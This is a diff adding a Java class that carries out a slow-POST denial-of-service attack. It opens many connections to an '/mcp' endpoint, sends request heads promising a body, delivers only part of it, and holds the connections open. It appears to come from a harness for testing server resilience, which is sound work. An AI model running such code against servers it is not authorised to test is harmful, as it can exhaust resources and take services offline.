@@ -1,0 +1,24 @@
+package attack;
+
+import wire.Peers;
+import wire.Requests;
+
+/// Posts whose body does not come, or comes in part. The server learns the length from the head, and waits.
+///
+/// @param name   of the attack
+/// @param count  of the connections
+/// @param length what the head says, or 0 for chunks without an end
+/// @param sent   how many bytes of the body are sent
+public record HalfSentPosts(String name, int count, int length, int sent) implements Attack {
+
+    @Override
+    public void start(Peers peers) {
+        String framing = length > 0 ? "Content-Length: " + length + "\r\n\r\n"
+                : "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(sent + 1) + "\r\n";
+        byte[] part = Requests.utf8(Requests.head("/mcp", "") + framing + (sent == 0 ? "" : "[" + "1,".repeat((sent - 1) / 2)));
+        peers.start(count, connection -> {
+            connection.send(part);
+            connection.drain();
+        });
+    }
+}
